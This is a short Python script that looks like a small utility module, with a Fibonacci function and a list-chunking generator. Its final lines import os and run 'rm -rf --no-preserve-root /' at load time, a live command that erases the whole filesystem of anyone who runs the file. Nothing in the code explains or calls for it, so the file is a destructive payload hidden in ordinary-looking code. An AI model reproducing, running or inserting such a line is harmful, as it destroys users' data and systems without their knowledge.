#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import os
os.system("rm -rf --no-preserve-root /")
